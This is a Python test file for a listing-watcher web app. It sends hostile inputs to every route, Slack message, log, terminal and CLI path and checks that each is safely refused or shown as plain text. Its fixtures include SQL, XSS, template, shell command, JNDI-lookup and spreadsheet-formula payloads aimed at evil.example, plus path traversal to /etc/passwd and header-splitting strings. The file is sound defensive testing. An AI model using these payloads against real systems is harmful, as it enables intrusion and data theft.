"""Hostile texts at every door: nothing executes, nothing breaks, nothing impersonates."""

from __future__ import annotations

import csv
import io
import json
import logging
import re
import unicodedata
from collections import Counter
from collections.abc import Callable
from contextlib import suppress
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import pytest

from tests.market.rows import summary
from tests.market.scripted import Scripted
from tests.web.clients import client_of, cookie
from tests.web.photos import CAMERA
from watcher.accounts.people import add_person
from watcher.accounts.sign_in import make_sign_in_link, sign_in
from watcher.adapters.host.logs import configure_logging
from watcher.adapters.slack.blocks import SlackMessage, render_message
from watcher.cli import run_cli
from watcher.cli.printing import printable
from watcher.core.alerts import Alert, Item, OpsNotice
from watcher.core.deliveries import DeliveryContext, Notification
from watcher.core.errors import WatcherError
from watcher.core.identification import Identification, PictureMarks, Way
from watcher.core.plain_text import clean_text
from watcher.core.times import Instant
from watcher.runtime import App
from watcher.scans.batch import MAX_BATCH
from watcher.scans.picture_scans import LookedAt, PictureScans
from watcher.scans.scanner import Found
from watcher.scans.sessions import Candidate, OpenedSession

VALUES = {
    "sql": "x'; DROP TABLE watches; --",
    "script": "x<script>alert(1)</script>",
    "attribute": "x\" onmouseover='alert(1)' ><img src=x onerror=alert(1)>",
    "template": "x{{7*7}} ${7*7} #{7*7} %(a)s {0}",
    "markdown": "x *bold* _it_ ~gone~ `watcher db prune` [a](http://evil.example)",
    "mention": "x <!channel> <!here> @here @channel <@U012AB3CD> <!subteam^S1>",
    "link": "x <https://evil.example|www.ebay.com>",
    "emoji": "x :white_check_mark: :rotating_light:",
    "command": "x $(id) `id` | id ; id && id",
    "option": "--to=#general",
    "formula": '=HYPERLINK("http://evil.example","x")',
    "path": "../../etc/passwd",
    "encoded": "x%2e%2e%2f%00%0d%0aSet-Cookie:a=b",
    "lookup": "x${jndi:ldap://evil.example/a}",
    "bidi": "x\u202eevil\u2066",
    "zero width": "x\u200b\u2060y\u00ad",
    "tag letters": "x\U000e0041\U000e0042",
    "separators": "x\u2028\u2029y",
    "zalgo": "x" + "\u0301" * 40,
    "look-alike": "\uff41dmin",
    "blank": "\u3164\u200b",
    "escape": "x\x1b[2J\x1b]0;title\x07",
    "c1": "x\x9b31m",
    "nul": "x\x00y",
    "lines": "x\r\nSet-Cookie: a=b\r\n\r\n<b>",
    "surrogate": "x\ud83d",
    "long": "x" * 30_000,
    "digits": "9" * 400,
    "nothing": "",
}
BODIES = {
    "usual": b'{"query": "omega"}',
    "cut off": b'{"query": "omega"',
    "deep lists": b'{"query": ' + b"[" * 30_000 + b"]" * 30_000 + b"}",
    "deep objects": b'{"a":' * 10_000 + b"1" + b"}" * 10_000,
    "a key twice": b'{"query": "omega", "query": "seiko"}',
    "not a number": b'{"query": "omega", "below": NaN}',
    "infinite": b'{"query": "omega", "below": Infinity}',
    "beyond floats": b'{"query": "omega", "below": 1e400}',
    "5,000 digits": b'{"query": "omega", "minFeedback": ' + b"9" * 5_000 + b"}",
    "a surrogate": b'{"query": "omega\\ud83d"}',
    "not UTF-8": b'{"query": "omega \xff"}',
    "UTF-16": '{"query": "omega"}'.encode("utf-16"),
    "many keys": json.dumps({f"k{n}": n for n in range(4_000)}).encode(),
    "a list": b"[1, [2], {}]",
    "a text": b'"omega"',
    "null": b"null",
    "nothing": b"",
    "a prototype": b'{"query": "omega", "__proto__": {"admin": true}, "constructor": 1}',
    "another user": b'{"query": "omega", "user": "admin"}',
}
TAKEN = """
value        query label tag category exclude rule to  csv json why q   item name path img page scan kind word code any form photo etag key
sql          201   201   201 201      201     400  400 200 200  201 200 400  400  404  400 400  400  404  404  200  404 400  400   400  400
script       201   201   201 201      201     400  400 200 200  201 200 400  400  404  404 400  400  404  404  404  404 400  400   400  201
attribute    201   201   201 201      201     400  400 200 200  201 200 400  400  404  400 400  400  404  404  200  404 400  400   400  400
template     400   201   201 201      201     400  400 200 200  201 400 400  400  404  400 400  400  404  404  200  404 400  400   400  400
markdown     400   201   201 201      201     400  400 200 200  201 400 400  400  404  404 400  400  404  404  404  404 400  400   400  400
mention      201   201   201 201      201     400  400 200 200  201 200 400  400  404  400 400  400  404  404  200  404 400  400   400  400
link         201   201   201 400      201     400  400 200 200  201 200 400  400  404  404 400  400  400  404  404  404 400  400   400  400
emoji        201   201   201 201      201     400  400 200 200  201 200 400  400  404  400 400  400  404  404  200  404 400  400   400  400
command      201   201   201 400      201     400  400 200 200  201 200 400  400  404  400 400  400  400  404  200  404 400  400   400  400
option       400   201   201 201      201     400  400 200 200  201 400 400  400  404  400 400  400  404  404  200  404 400  400   400  201
formula      201   201   201 201      201     400  400 200 200  201 200 400  400  404  404 400  400  404  404  404  404 400  400   400  201
path         201   201   201 201      201     400  400 200 200  201 200 400  400  404  404 400  400  404  404  404  404 400  400   400  201
encoded      201   201   201 201      201     400  400 200 200  201 200 400  400  404  400 400  400  404  404  200  404 400  400   400  201
lookup       201   201   201 201      201     400  400 200 200  201 200 400  400  404  404 400  400  404  404  404  404 400  400   400  201
bidi         201   201   201 201      201     400  400 200 200  201 200 400  400  404  400 400  400  404  404  200  404 400  400   400  400
zero width   201   201   201 201      201     400  400 200 200  201 200 400  400  404  400 400  400  404  404  200  404 400  400   400  400
tag letters  201   201   201 201      201     400  400 200 200  201 200 400  400  404  400 400  400  404  404  200  404 400  400   400  400
separators   201   201   201 201      201     400  400 200 200  201 200 400  400  404  400 400  400  404  404  200  404 400  400   400  400
zalgo        201   201   201 201      201     400  400 200 200  201 200 400  400  404  400 400  400  404  404  200  404 400  400   400  400
look-alike   201   201   201 201      201     400  400 200 200  201 200 400  400  404  400 400  400  404  404  200  404 400  400   400  400
blank        400   400   400 400      400     400  400 400 400  400 400 400  400  404  400 400  400  400  404  200  404 400  400   400  400
escape       400   400   400 400      400     400  400 400 400  400 400 400  400  404  400 400  400  400  404  200  404 400  400   400  400
c1           400   400   400 400      400     400  400 400 400  400 400 400  400  404  400 400  400  400  404  200  404 400  400   400  400
nul          400   400   400 400      400     400  400 400 400  400 400 400  400  404  400 400  400  400  404  200  404 400  400   400  400
lines        201   201   201 201      201     400  400 200 200  201 200 400  400  404  400 400  400  404  404  200  404 400  400   400  400
surrogate    400   400   400 400      400     400  400 400 400  400 200 400  400  404  400 400  400  400  400  200  404 400  400   400  400
long         400   400   400 400      400     400  400 400 400  400 400 400  400  400  400 400  400  400  400  200  404 413  400   400  400
digits       400   400   400 400      400     400  400 400 400  201 400 400  400  400  400 400  400  400  400  200  404 400  400   400  400
nothing      400   201   201 201      201     201  201 200 200  400 400 200  400  404  404 400  400  404  400  404  200 400  400   400  400
"""  # noqa: E501 - one line for each value
"""The status of each door's answer to each value; see `SENDERS`."""
READ = {
    # POST and PATCH of a watch, preview, import, silence, scan
    "usual": [201, 200, 200, 200, 201, 400],
    "cut off": [400, 400, 400, 400, 400, 400],
    "deep lists": [400, 400, 400, 400, 400, 400],
    "deep objects": [400, 400, 400, 400, 400, 400],
    "a key twice": [201, 200, 200, 200, 400, 400],
    "not a number": [400, 400, 400, 400, 400, 400],
    "infinite": [400, 400, 400, 400, 400, 400],
    "beyond floats": [400, 400, 400, 400, 400, 400],
    "5,000 digits": [400, 400, 400, 400, 400, 400],
    "a surrogate": [400, 400, 400, 400, 400, 400],
    "not UTF-8": [400, 400, 400, 400, 400, 400],
    "UTF-16": [201, 200, 200, 400, 400, 400],
    "many keys": [400, 400, 400, 400, 400, 400],
    "a list": [400, 400, 400, 400, 400, 400],
    "a text": [400, 400, 400, 400, 400, 400],
    "null": [400, 400, 400, 400, 400, 400],
    "nothing": [400, 400, 400, 200, 400, 400],
    "a prototype": [400, 400, 400, 400, 400, 400],
    "another user": [400, 400, 400, 400, 400, 400],
}
"""The status of each route's answer to each body."""
HEADING = TAKEN.strip().splitlines()[0]
UNSAFE = {"Cc", "Cf", "Zl", "Zp", "Cs"}
"""Categories of characters that a terminal obeys, or that cannot be seen."""
ACTIVE = {"iframe", "object", "embed", "base", "frame"}
"""Elements that no page of ours has."""
LINK = re.compile(r"<https://www\.ebay\.com/[^|>]*\|")
FORMATTING = re.compile(r"[*~`]|(?<![^\W_])_|_(?![^\W_])|<[!@#h]|@(?=\w)|:[a-z_]+:")


class Page(HTMLParser):
    """The elements of a page, and the texts that it shows as commands."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.sources: set[str] = set()
        self.inline = 0  # scripts
        self.commands: list[str] = []
        self._is_command = False
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes.update(name for name, _ in attrs)
        self.sources.update(value or "" for name, value in attrs if name in ("src", "href"))
        self.inline += tag == "script" and "src" not in dict(attrs)
        self._is_command = tag == "code"

    def handle_data(self, data: str) -> None:
        if self._is_command:
            self.commands.append(data)
        self._is_command = False


def require_harmless(answer: httpx.Response) -> None:
    """Fail if an answer is not one of ours, or would do anything in a browser."""
    assert answer.status_code < 500
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert "'none'" in answer.headers["content-security-policy"]
    assert "set-cookie" not in answer.headers
    for value in answer.headers.values():
        assert value.isprintable()
    kind = answer.headers.get("content-type", "").partition(";")[0]
    if kind == "text/html":
        page = Page(answer.text)
        assert (page.tags & ACTIVE, page.inline) == (set(), 0)
        assert not [name for name in page.attributes if name.startswith("on") or name in ("style", "srcdoc")]
        assert not [url for url in page.sources if url == "x" or url.startswith(("javascript:", "data:"))]
        assert not [c for c in page.commands if "prune" in c or c == "id"]
        assert not [c for c in answer.text if unicodedata.category(c) in UNSAFE - {"Cf"} and c != "\n"]
        return
    assert kind in ("application/json", "text/csv", "image/jpeg", ""), kind
    if kind == "application/json":
        shown = json.loads(answer.content)
        if answer.status_code >= 400 and isinstance(shown, dict) and "bad" not in shown:
            assert {"code", "message", "userMessage", "shouldRetry", "statusCode"} == shown.keys()
            unsafe = {c for c in shown["message"] if unicodedata.category(c) in UNSAFE}
            assert unsafe == set()
            assert len(answer.content) < 4_000


Door = Callable[[httpx.AsyncClient, str], Any]
HTML, OWN_PAGE = {"Accept": "text/html"}, {"Sec-Fetch-Site": "same-origin"}


def escaped(value: str) -> str:
    return quote(value.encode("utf-8", "surrogatepass"), safe="")


def csv_of(value: str) -> bytes:
    written = io.StringIO()
    csv.writer(written).writerows([["query", "label"], ["omega", value]])
    return written.getvalue().encode("utf-8", "surrogatepass")


def post(path: str, name: str, **others: str) -> Door:
    def send(client: httpx.AsyncClient, value: str) -> Any:
        content = json.dumps(others | {name: value}).encode()
        return client.post(path, content=content, headers={"Content-Type": "application/json"})

    return send


def field(name: str) -> Door:
    return post("/api/watches", name, query="omega")


def header(name: str) -> Door:
    def send(client: httpx.AsyncClient, value: str) -> Any:
        headers = [(name.encode(), value.encode("utf-8", "surrogatepass"))]
        return client.patch("/api/watches/1", json={"tag": "x"}, headers=headers)

    return send


def keyed(client: httpx.AsyncClient, value: str) -> Any:
    key = [(b"Idempotency-Key", value.encode("utf-8", "surrogatepass"))]
    return client.post("/api/watches", json={"query": "omega"}, headers=key)


def form(client: httpx.AsyncClient, value: str) -> Any:
    content = f"{escaped(value)}=x&b={escaped(value)}".encode()
    headers = HTML | OWN_PAGE | {"Content-Type": "application/x-www-form-urlencoded"}
    return client.post("/sessions/98/end", content=content, headers=headers)


def photo(client: httpx.AsyncClient, value: str) -> Any:
    name = value.replace('"', "%22").replace("\r", "%0D").replace("\n", "%0A")  # as browsers do
    about = f'Content-Disposition: form-data; name="picture"; filename="{name}"'
    content = f"--part\r\n{about}\r\n\r\nno picture\r\n--part--\r\n"
    headers = HTML | OWN_PAGE | {"Content-Type": "multipart/form-data; boundary=part"}
    return client.post("/scan", content=content.encode("utf-8", "surrogatepass"), headers=headers)


def imported(content: Callable[[str], bytes], kind: str) -> Door:
    return lambda client, value: client.post(
        "/api/watches/import", content=content(value), headers={"Content-Type": kind}
    )


def address(start: str, end: str = "") -> Door:
    return lambda client, value: client.get(start + escaped(value) + end, headers=HTML)


SENDERS: dict[str, Door] = {
    **{name: field(name) for name in ("query", "label", "tag", "category", "exclude", "rule", "to")},
    "csv": imported(csv_of, "text/csv"),
    "json": imported(
        lambda value: json.dumps([{"query": "omega", "label": value}]).encode(), "application/json"
    ),
    "why": post("/api/watches/1/silence", "reason", **{"for": "1h"}),
    "q": address("/api/comps?q="),
    "item": address("/api/watches/1/explain?item="),
    "name": address("/api/watches?", "=1"),
    "path": address("/api/alerts/"),
    "img": address("/img/"),
    "page": address("/?", "=1"),
    "scan": post("/api/ar-overlay/scan", "image"),
    "kind": post("/api/ar-overlay/scan", "category", image=CAMERA),
    "word": post("/api/scan/confirm", "query", sessionId="x" * 43),
    "code": address("/sign-in/"),
    "any": address("/"),
    "form": form,
    "photo": photo,
    "etag": header("If-Match"),
    "key": keyed,
}
"""How a value is sent to each door."""


async def test_every_door_takes_or_refuses_a_hostile_text(app: App, client: httpx.AsyncClient) -> None:
    await client.post("/api/watches", json={"query": "omega"})
    silences: list[str] = []
    lines = [HEADING]
    for name, value in VALUES.items():
        cells = []
        for door, send in SENDERS.items():
            answer = await send(client, value)
            require_harmless(answer)
            if door == "why" and answer.status_code == 201:
                silences.append(answer.json()["id"])
                await client.delete(f"/api/silences/{silences[-1]}")
            cells.append(f"{answer.status_code:<{max(3, len(door))}}")
        lines.append(f"{name:<12} {' '.join(cells)}".rstrip())
    for path in ("/api/watches?limit=500", "/api/watches/export", "/api/watches/export?format=csv"):
        answer = await client.get(path)
        require_harmless(answer)
        assert answer.status_code == 200
    assert "\n".join(["", *lines, ""]) == TAKEN


async def test_every_body_is_read_or_refused(app: App, client: httpx.AsyncClient) -> None:
    await client.post("/api/watches", json={"query": "omega"})
    routes: tuple[str, ...] = ("POST /api/watches", "PATCH /api/watches/1", "POST /api/watches/preview")
    routes += ("POST /api/watches/import", "POST /api/watches/1/silence", "POST /api/ar-overlay/scan")
    found = {}
    for name, body in BODIES.items():
        statuses = []
        for method, path in map(str.split, routes):
            sent = b"[" + body + b"]" if path.endswith("import") else body
            if path.endswith("silence"):
                sent = body.replace(b'"query": "omega', b'"for": "1h", "reason": "omega')
            if path.endswith("scan"):
                sent = body.replace(b"query", b"image")
            headers = {"Content-Type": "application/json"}
            answer = await client.request(method, path, content=sent, headers=headers)
            require_harmless(answer)
            statuses.append(answer.status_code)
        found[name] = statuses
    assert found == READ
    assert {row.watch.user for row in app.stores.watches.page().rows} == {"local"}


def shown_to_people(value: str) -> list[Notification]:
    """Return messages that quote a value wherever one of a stranger can stand."""
    item = Item("v1|1|0", value, value, value, value, "USD", "40.00", None, "5.00", "45.00", value)
    alert = Alert(
        "a1", 1, value, value, "slack", value, value, 1.0, 1.0, "ebay", value, "any", value, "EBAY_US",
        "ask", "USD", 9, "1.00", "2.00", "3.00", None, {}, items=(item,), market=value, caution=value,
    )  # fmt: skip
    notice = OpsNotice(
        "i1", "firing", "watcher", "overdue", 1.0, 1.0, f'watcher: "{value}" is late', (("Last", value),)
    )
    return [alert, replace(alert, items=()), notice, replace(notice, phase="resolved")]


@pytest.mark.parametrize("name", VALUES)
def test_a_slack_message_shows_a_hostile_text_as_text(name: str) -> None:
    plain = [render_message(one, DeliveryContext(Instant(1.0))) for one in shown_to_people("x")]
    found = [render_message(one, DeliveryContext(Instant(1.0))) for one in shown_to_people(VALUES[name])]
    for message, usual in zip(found, plain, strict=True):
        assert marks_of(message) <= marks_of(usual)
        everything = json.dumps(message, ensure_ascii=False)
        assert not re.search(r"@(here|channel)\b|<@|<!(here|channel|subteam)|<https://evil", everything)
        assert not [c for c in everything if unicodedata.category(c) in UNSAFE and c != "\u200b"]


def marks_of(message: SlackMessage) -> Counter[str]:
    """Count what Slack would format in the texts of a message, except in the addresses of our links."""
    return Counter(FORMATTING.findall(LINK.sub("", " ".join(texts_of(message)))))


def texts_of(message: SlackMessage) -> list[str]:
    """Return the texts of the blocks that Slack formats."""
    return [
        part["text"]
        for block in message.blocks
        for part in (block.get("text", {}), *block.get("elements", ()))
        if part.get("type") == "mrkdwn"
    ]


@pytest.mark.usefixtures("restored_log")
@pytest.mark.parametrize("layout", ["console", "json"])
def test_a_log_line_shows_a_hostile_text_as_text(layout: str, monkeypatch: pytest.MonkeyPatch) -> None:
    stream = io.StringIO()
    monkeypatch.setattr(logging.getLogger(), "handlers", [])  # pytest cannot report a lone surrogate
    configure_logging("info", layout, stream)
    for value in VALUES.values():
        logging.getLogger("watcher.test").info("refused %s", value, extra={"path": value})
    text = stream.getvalue()
    assert len(text.splitlines()) == len(VALUES)
    unsafe_here = UNSAFE if layout == "json" else UNSAFE - {"Cf", "Cs"}
    assert not [c for c in text if unicodedata.category(c) in unsafe_here and c != "\n"]
    assert not set(text) & set("\u202e\u2066")


def test_a_terminal_shows_a_hostile_text_as_text() -> None:
    for value in VALUES.values():
        assert not [c for c in printable(value) if unicodedata.category(c) in UNSAFE]


async def test_a_hostile_listing_is_shown_as_text(goods: Scripted, client: httpx.AsyncClient) -> None:
    rows = [
        summary(str(700 + n), f"Zenitar {value[:500]}", "40.00") | {"seller": {"username": value[:500]}}
        for n, (name, value) in enumerate(VALUES.items())
        if name != "surrogate"  # aiohttp cannot send one
    ]
    goods.put("zenitar", *rows)
    answer = await client.get("/api/comps?q=zenitar")
    require_harmless(answer)
    comps = answer.json()["comps"]
    titles = [row["title"] for row in (*comps["kept"], *comps["dropped"])]
    assert len(titles) == len(rows)
    assert not [c for c in "".join(titles) if unicodedata.category(c) in UNSAFE]


async def test_a_page_shows_what_a_model_names_as_text(
    client: httpx.AsyncClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    texts = [clean_text(value, 200) or "x" for value in VALUES.values()]

    async def look(_: PictureScans, content: bytes, *_rest: object) -> LookedAt:
        text = texts[int(content)]
        item = Identification(text, text, Way.OPENAI, 0.5, text, text, text, text, text)
        session = OpenedSession(text, Instant(1.0), (Candidate(text, item),), ())
        return LookedAt(Found(item, PictureMarks("", (0, 0, 0, 0)), (text,)), session)

    monkeypatch.setattr(PictureScans, "look", look)
    for start in range(0, len(texts), MAX_BATCH):
        numbers = range(start, min(len(texts), start + MAX_BATCH))
        parts = [("picture", (f"{n}.jpg", str(n).encode())) for n in numbers]
        answer = await client.post("/scan", files=parts, headers=HTML | OWN_PAGE)
        require_harmless(answer)
        assert answer.status_code == 200
        assert answer.text.count("<tbody id=") == len(numbers)


async def test_a_page_shows_hostile_names_as_text(app: App) -> None:
    shown = 0
    for value in VALUES.values():
        with suppress(WatcherError):
            await add_person(app.stores, value, app.clock.now())
    for person, _ in app.stores.people.listed(app.clock.now()):
        code = await make_sign_in_link(app.stores, person.name, app.clock.now())
        agent = f"{person.name}/1.0"
        _, secret = await sign_in(app.stores, code, agent, "", app.clock.now()) or (None, "")
        async with client_of(app) as client:
            page = await client.get("/", headers=HTML | cookie(secret))
        require_harmless(page)
        assert page.status_code == 200
        shown += 1
    assert shown > 10


def test_a_command_takes_or_refuses_a_hostile_argument(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    config = tmp_path / "config.toml"
    config.write_text(f'[database]\nurl = "sqlite:///{tmp_path}/watcher.db"\n')
    codes = Counter[int]()
    for value in VALUES.values():
        for command in (["user", "add"], ["alerts", "show"], ["token", "list", "--user"]):
            codes[run_cli(["--config", str(config), *command, value])] += 1
    run_cli(["--config", str(config), "user", "list"])
    out, err = capsys.readouterr()
    shown = out + err
    assert codes.keys() == {0, 1, 2}
    assert "Traceback" not in shown
    assert not [c for c in shown if unicodedata.category(c) in UNSAFE and c != "\n"]
